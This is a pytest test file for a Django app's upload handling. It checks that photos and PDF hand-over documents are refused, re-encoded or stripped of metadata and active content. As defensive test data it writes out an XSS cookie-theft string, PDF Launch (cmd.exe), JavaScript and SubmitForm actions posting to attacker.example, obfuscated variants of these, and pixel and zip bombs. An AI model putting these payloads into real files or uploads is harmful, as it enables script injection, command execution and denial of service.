"""Uploads are judged by content and cleaned: the corpus in tests/uploads (see its README)
is refused or stripped by photo_prepare and grant_document_prepare, and through the form."""

import io
import struct
import zlib
from pathlib import Path

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image

from beneficiaries.tests.factories import ClientFactory
from core import pdfs
from core.images import PreparedPhoto, photo_prepare
from programs.documents import grant_document_prepare
from programs.tests.test_grant_document_pdf import active_parts

UPLOADS = Path(__file__).parent / "uploads"

# Corpus file -> (code from photo_prepare, code from grant_document_prepare).
REFUSED = {
    "bomb.png": ("photo_too_many_pixels", "photo_too_many_pixels"),
    "page.html": ("photo_unreadable", "document_format"),
    "image.svg": ("photo_format", "document_format"),
    "fake.jpg": ("photo_unreadable", "document_format"),
    "empty.jpg": ("empty", "empty"),
    "animated.gif": ("photo_format", "document_format"),
    "image.bmp": ("photo_format", "document_format"),
    "image.tiff": ("photo_format", "document_format"),
}
# PDFs with scripts, hidden in different ways: refused as a photo, and as a hand-over
# document rewritten by core/pdfs.py without them (a byte search could not find them all).
CLEANED_PDFS = ["script.pdf", "obfuscated.pdf", "objstm.pdf", "html.pdf"]
ACCEPTED = ["gps.jpg", "polyglot.jpg"]
PAYLOAD = b"<script>alert(document.cookie)</script>"


def upload(name, content=None, content_type="image/jpeg"):
    """The corpus file `name` (or `content`) as the browser would send it."""
    data = (UPLOADS / name).read_bytes() if content is None else content
    return SimpleUploadedFile(name, data, content_type=content_type)


def picture(fmt, size=(120, 90), mode="RGB"):
    out = io.BytesIO()
    Image.new(mode, size, (20, 140, 60) if mode == "RGB" else 0).save(out, format=fmt)
    return out.getvalue()


def png_header_only(width, height):
    """A PNG that declares width x height but carries almost no pixel data."""

    def chunk(kind, body):
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + chunk(b"IEND", b"")
    )


def minimal_pdf(*objects, trailer_extra=b"", tail=b"%%EOF\n"):
    """A small well-formed PDF: catalog, pages, one page, then `objects` (numbered from 4)."""
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
        *objects,
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(bodies, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n" % (
        len(bodies) + 1,
        trailer_extra,
        xref,
    )
    return bytes(out) + tail


def stream(data, dictionary=b""):
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (dictionary, len(data), data)


def text_content():
    return stream(b"BT /F1 12 Tf 20 100 Td (BAST/DINSOS-JATIM/2026/0001) Tj ET")


def stored_image(prepared):
    prepared.seek(0)
    return Image.open(io.BytesIO(prepared.read()))


# --- the corpus ----------------------------------------------------------------------


def test_corpus_files_are_small():
    for path in UPLOADS.iterdir():
        assert path.stat().st_size < 50 * 1024, path.name
    assert {path.name for path in UPLOADS.iterdir()} == {
        *REFUSED,
        *CLEANED_PDFS,
        *ACCEPTED,
        "README.md",
    }


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_corpus_file_is_refused_as_a_photo(name):
    with pytest.raises(ValidationError) as refused:
        photo_prepare(upload(name))

    assert refused.value.code == REFUSED[name][0]
    assert refused.value.messages[0].strip()


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_corpus_file_is_refused_as_a_hand_over_document(name):
    with pytest.raises(ValidationError) as refused:
        grant_document_prepare(upload(name))

    assert refused.value.code == REFUSED[name][1]
    assert refused.value.messages[0].strip()


@pytest.mark.parametrize("prepare", [photo_prepare, grant_document_prepare])
def test_gps_photo_is_stored_without_any_metadata(prepare):
    with Image.open(UPLOADS / "gps.jpg") as original:  # the corpus file does carry it all
        assert original.getexif().get_ifd(0x8825)
        assert {"exif", "xmp", "icc_profile", "comment"} <= set(original.info)

    prepared = prepare(upload("gps.jpg"))

    with stored_image(prepared) as image:
        assert image.format == "JPEG"
        assert not image.getexif()
        assert not image.getexif().get_ifd(0x8825)
        assert not {"exif", "xmp", "icc_profile", "comment"} & set(image.info)
    prepared.seek(0)
    stored = prepared.read()
    assert b"Exif" not in stored
    assert b"KameraHP" not in stored
    assert b"Surabaya" not in stored
    assert b"GPSLatitude" not in stored


@pytest.mark.parametrize("prepare", [photo_prepare, grant_document_prepare])
def test_payload_appended_to_a_jpeg_is_gone_after_re_encoding(prepare):
    assert PAYLOAD in (UPLOADS / "polyglot.jpg").read_bytes()

    prepared = prepare(upload("polyglot.jpg"))

    prepared.seek(0)
    stored = prepared.read()
    assert stored.startswith(b"\xff\xd8\xff")
    assert stored.endswith(b"\xff\xd9")
    assert b"<script" not in stored.lower()
    assert b"<html" not in stored.lower()


# --- size and pixel limits -----------------------------------------------------------


def test_file_over_the_size_limit_is_refused(settings):
    settings.PHOTO_MAX_BYTES = 1024 * 1024
    big = picture("PNG", size=(1000, 1000))
    big += b"\x00" * (settings.PHOTO_MAX_BYTES + 1 - len(big))  # still a valid PNG prefix

    with pytest.raises(ValidationError) as photo:
        photo_prepare(upload("big.png", big, "image/png"))
    with pytest.raises(ValidationError) as document:
        grant_document_prepare(upload("big.png", big, "image/png"))

    assert photo.value.code == "photo_too_large"
    assert photo.value.messages == ["Ukuran foto lebih dari 1 MB."]
    assert document.value.code == "document_too_large"
    assert document.value.messages == ["Ukuran berkas lebih dari 1 MB."]


def test_default_size_limit_is_five_megabytes(settings):
    assert settings.PHOTO_MAX_BYTES == 5 * 1024 * 1024
    big = b"\xff\xd8\xff" + b"\x00" * (5 * 1024 * 1024)

    with pytest.raises(ValidationError) as refused:
        photo_prepare(upload("big.jpg", big))

    assert refused.value.code == "photo_too_large"
    assert "5 MB" in refused.value.messages[0]


def test_a_wrong_size_attribute_does_not_let_a_large_file_through(settings):
    settings.PHOTO_MAX_BYTES = 1024
    sneaky = upload("small.jpg", picture("JPEG") + b"\x00" * 4096)
    sneaky.size = 10

    with pytest.raises(ValidationError) as refused:
        photo_prepare(sneaky)

    assert refused.value.code == "photo_too_large"


def test_pixels_over_the_setting_are_refused_before_decoding(settings):
    settings.PHOTO_MAX_PIXELS = 1_000_000
    # 1001 x 1000 with only 64 bytes of pixel data: decoding would fail as truncated, so
    # this message proves the header was judged first.
    header_only = png_header_only(1001, 1000)

    with pytest.raises(ValidationError) as refused:
        photo_prepare(upload("besar.png", header_only, "image/png"))

    assert refused.value.code == "photo_too_many_pixels"
    assert refused.value.messages == ["Resolusi foto terlalu besar."]


def test_pillow_limit_applies_when_the_setting_is_higher(settings, recwarn):
    settings.PHOTO_MAX_PIXELS = 10**9
    over_pillow_warning_limit = png_header_only(10_000, 10_000)  # 100 million pixels

    with pytest.raises(ValidationError) as refused:
        photo_prepare(upload("besar.png", over_pillow_warning_limit, "image/png"))

    assert refused.value.code == "photo_too_many_pixels"


@pytest.mark.filterwarnings("error::PIL.Image.DecompressionBombWarning")
def test_decompression_bomb_warning_raised_as_error_is_a_refusal(settings):
    settings.PHOTO_MAX_PIXELS = 10**9

    with pytest.raises(ValidationError) as refused:
        photo_prepare(upload("besar.png", png_header_only(10_000, 10_000), "image/png"))

    assert refused.value.code == "photo_too_many_pixels"


def test_truncated_jpeg_is_unreadable():
    truncated = picture("JPEG", size=(400, 300))[:300]

    with pytest.raises(ValidationError) as refused:
        photo_prepare(upload("potong.jpg", truncated))

    assert refused.value.code == "photo_unreadable"


def test_heic_from_an_iphone_is_told_the_accepted_formats():
    heic_start = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 64

    with pytest.raises(ValidationError) as refused:
        photo_prepare(upload("IMG_0001.HEIC", heic_start, "image/heic"))

    assert refused.value.messages == ["Unggah foto berformat JPEG, PNG, atau WebP."]


# --- accepted pictures ---------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "WEBP"])
@pytest.mark.parametrize("prepare", [photo_prepare, grant_document_prepare])
def test_valid_picture_is_accepted_and_stored_as_jpeg(fmt, prepare):
    prepared = prepare(upload(f"foto.{fmt.lower()}", picture(fmt), f"image/{fmt.lower()}"))

    assert isinstance(prepared, PreparedPhoto)
    assert prepared.name == "photo.jpg"
    with stored_image(prepared) as image:
        assert image.format == "JPEG"
        assert image.size == (120, 90)


def test_picture_with_a_misleading_name_is_judged_by_content():
    prepared = photo_prepare(upload("dokumen.pdf", picture("PNG"), "application/pdf"))

    with stored_image(prepared) as image:
        assert image.format == "JPEG"


def test_transparent_png_gets_a_white_background():
    out = io.BytesIO()
    Image.new("RGBA", (10, 10), (0, 0, 0, 0)).save(out, format="PNG")

    prepared = photo_prepare(upload("logo.png", out.getvalue(), "image/png"))

    with stored_image(prepared) as image:
        assert image.convert("L").getextrema()[0] > 240


# --- PDF hand-over documents ---------------------------------------------------------


def rewritten(data: bytes) -> bytes:
    """The bytes grant_document_prepare stores for the PDF `data`."""
    prepared = grant_document_prepare(upload("bast.pdf", data, "application/pdf"))
    assert prepared.name == "document.pdf"
    prepared.seek(0)
    return prepared.read()


@pytest.mark.parametrize("name", CLEANED_PDFS)
def test_corpus_pdf_is_refused_as_a_photo(name):
    with pytest.raises(ValidationError) as refused:
        photo_prepare(upload(name))

    assert refused.value.code == "photo_format"


@pytest.mark.parametrize("name", CLEANED_PDFS)
def test_corpus_pdf_is_stored_rewritten_without_its_scripts(name):
    original = (UPLOADS / name).read_bytes()

    stored = rewritten(original)

    assert stored != original
    assert pdfs.pdf_is_rewritten(stored)
    assert active_parts(stored) == []
    assert b"<html" not in stored.lower() and b"<script" not in stored.lower()


def test_pdf_made_by_a_scanner_app_keeps_its_pages():
    out = io.BytesIO()
    Image.new("RGB", (300, 420), (250, 250, 245)).save(out, format="PDF", save_all=True)
    scan = out.getvalue()

    stored = rewritten(scan)

    with pikepdf.open(io.BytesIO(stored)) as pdf:
        assert len(pdf.pages) == 1
        assert pdf.pages[0].get_images()  # the scanned picture is still there


def test_clean_pdf_with_compressed_text_is_accepted():
    content = b"BT /F1 12 Tf 20 100 Td (Diserahkan: mesin jahit /JSON) Tj ET"
    clean = minimal_pdf(stream(zlib.compress(content), b"/Filter /FlateDecode"))

    assert pdfs.pdf_is_rewritten(rewritten(clean))


@pytest.mark.parametrize(
    "extra",
    [
        b"<< /Type /Action /S /Launch /F (cmd.exe) >>",
        b"<< /Type /Filespec /EF << /F 6 0 R >> /Type /EmbeddedFile >>",
        b"<< /Type /Action /S /JavaScript /JS 6 0 R >>",
        b"<< /Type /Annot /Subtype /Widget /AA << /O 6 0 R >> >>",
        b"<< /Type /Action /S /SubmitForm /F (https://attacker.example/) >>",
        b"<< /Type /Action /S /#4A#61vaScript /#4a#53 (app.alert(1)) >>",
        stream(zlib.compress(b"<< /S /JavaScript /JS (x) >>"), b"/Filter /FlateDecode"),
        stream(zlib.compress(b"<< /S /JavaScript >>").hex().encode() + b">", b"/Filter [/AHx /Fl]"),
        stream(b"<< /S /Launch >>".hex().encode() + b">", b"/Filter /ASCIIHexDecode"),
    ],
    ids=[
        "launch",
        "embedded-file",
        "javascript",
        "additional-actions",
        "submit-form",
        "hex-escaped",
        "flate",
        "hex-then-flate",
        "hex",
    ],
)
def test_pdf_with_active_content_is_stored_without_it(extra):
    stored = rewritten(minimal_pdf(text_content(), extra))

    assert active_parts(stored) == []


@pytest.mark.parametrize(
    "marker", [b"<html>", b"<SCRIPT src=x>", b"<!DOCTYPE html>", b"<iframe src=x>", b"<svg>"]
)
def test_pdf_that_is_also_a_web_page_loses_the_page(marker):
    polyglot = minimal_pdf(text_content(), tail=b"%%EOF\n" + marker)

    stored = rewritten(polyglot)

    assert marker.lower() not in stored.lower()


@pytest.mark.parametrize(
    "incomplete",
    [
        b"%PDF-1.4\n%...\n",
        minimal_pdf(text_content(), tail=b""),
        minimal_pdf(text_content(), tail=b"%%EOF\n" + b" " * 2048),
    ],
    ids=["stub", "no-trailer", "trailer-far-from-the-end"],
)
def test_pdf_without_the_eof_trailer_is_refused(incomplete):
    with pytest.raises(ValidationError) as refused:
        grant_document_prepare(upload("bast.pdf", incomplete, "application/pdf"))

    assert refused.value.code == "pdf_damaged"


def test_pdf_stream_that_inflates_past_the_budget_is_refused(monkeypatch):
    monkeypatch.setattr(pdfs, "DECODED_BUDGET", 1024 * 1024)
    zip_bomb = stream(zlib.compress(b"\x00" * (2 * 1024 * 1024), 9), b"/Filter /FlateDecode")
    bombed = minimal_pdf(text_content(), zip_bomb)
    assert len(bombed) < 10 * 1024

    with pytest.raises(ValidationError) as refused:
        grant_document_prepare(upload("bast.pdf", bombed, "application/pdf"))

    assert refused.value.code == "pdf_too_large_unpacked"


# --- through the real form -----------------------------------------------------------


@pytest.mark.parametrize("name", sorted([*REFUSED, *CLEANED_PDFS]))
def test_client_form_refuses_each_bad_file_and_stores_nothing(
    client, worker_malang, settings, name
):
    edited = ClientFactory(regency_code="35.73")
    client.force_login(worker_malang)

    response = client.post(
        reverse("beneficiaries:client_edit", args=[edited.pk]),
        {
            "name": edited.name,
            "sex": edited.sex,
            "regency": edited.regency_id,
            "status": edited.status,
            "photo": upload(name),
        },
    )

    edited.refresh_from_db()
    assert response.status_code == 200
    errors = response.context["form"].errors["photo"]
    assert errors
    assert errors[0] in response.content.decode()
    assert not edited.photo
    private = Path(settings.MEDIA_ROOT) / "private"
    assert not private.exists() or not any(p.is_file() for p in private.rglob("*"))
